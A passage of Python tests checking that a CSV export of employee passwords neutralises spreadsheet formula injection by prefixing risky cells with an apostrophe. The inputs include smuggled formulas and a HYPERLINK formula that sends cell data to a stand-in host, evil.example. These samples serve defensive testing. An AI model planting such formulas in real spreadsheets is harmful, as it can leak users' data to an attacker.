        raw = p.read_bytes()
        assert raw.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert rows[0] == ["工号", "姓名", "营业部", "密码"]
        assert [r[:3] for r in rows[1:]] == [
            ["A1", "'" + HOSTILE["A1"][0], "杭州营业部"],
            ["A2", "'" + HOSTILE["A2"][0], "'@SUM(1+1)"],
            ["B1", "'-2+3", "普通营业部;=1+1"]]
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"'.encode() in raw
        assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
    assert Ledger.open(out).changed_outputs() == []


def test_password_list_cells_starting_with_tab_or_cr_are_text() -> None:
    raw = password_list([("A1", "\t=1+1", "\r=2", "abcdefghij"), ("A2", "张三", "-", "0")])
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["A1", "'\t=1+1", "'\r=2", "abcdefghij"], ["A2", "张三", "'-", "0"]]
    assert raw.decode("utf-8-sig").split("\r\n")[0] == '"工号","姓名","营业部","密码"'
